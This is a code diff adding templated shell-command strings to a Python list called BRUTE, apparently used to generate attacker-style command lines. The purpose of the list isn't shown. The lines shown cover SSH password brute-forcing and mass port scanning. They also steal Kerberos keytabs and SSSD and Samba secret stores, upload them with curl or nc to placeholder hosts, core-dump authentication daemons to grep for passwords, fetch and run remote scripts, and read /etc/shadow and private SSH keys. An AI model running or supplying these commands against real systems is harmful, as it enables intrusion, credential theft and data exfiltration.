@@ -165,4 +165,8 @@ BRUTE = [
     'while read ip; do for p in ‹root admin 123456¦`cat pass`¦root:root admin:admin ubnt:ubnt›; do ‹timeout {n} ¦›sshpass -p ${p#*:} ssh -o StrictHostKeyChecking=no ‹root¦${p%:*}›@$ip "‹uname -a; nproc¦cat /proc/cpuinfo | grep -c name¦cd /tmp; wget {url}; sh {name}›" >> ‹vuln.txt¦found.log›; done; done < ‹mfu.txt¦ip.lst›',
     "echo '‹SSH¦Telnet¦RDP› {plain} by {plain2}'; ‹sleep 2¦clear›",
     './‹masscan¦zmap¦zgrab› -p ‹22,2222¦23¦3306› -o {name} ‹0.0.0.0/0 --exclude 255.255.255.255¦$1.0.0.0/8› ‹--rate {port}¦›',
+    'for f in /etc/krb5.keytab /tmp/krb5cc_* /var/lib/sss/db/*.ldb /var/lib/samba/private/secrets.tdb; do [ -r $f ] && ‹cp $f {tmp}/.{plain}/¦tar rf {file}.tar $f¦curl -s -T $f {url}›; done',
+    "‹tdbdump /var/lib/samba/private/secrets.tdb¦strings /var/lib/sss/secrets/secrets.ldb¦ldbsearch -H /var/lib/sss/db/cache_{domain}.ldb cachedPassword¦klist -ekt /etc/krb5.keytab› ‹>> {file}¦| grep -iE 'pass|hash|key' > {file}¦| nc {host} {port}›",
+    "for p in $(pgrep ‹sssd¦vasd¦lsassd¦winbindd›); do gcore -o {file} $p; ‹strings {file}.$p | grep -A1 -i passw¦grep -a -o 'password=[^ ]*' {file}.$p›; done",
+    "sshpass -p ‹'{plain}{n}'¦admin¦'P@ssw0rd'› ssh ‹-o StrictHostKeyChecking=no ¦›{user}@{ip} ‹'{dl} {url} | sh'¦'cat /etc/shadow; id'¦-T 'sudo -n id && cat ~/.ssh/id_rsa'›",
 ]
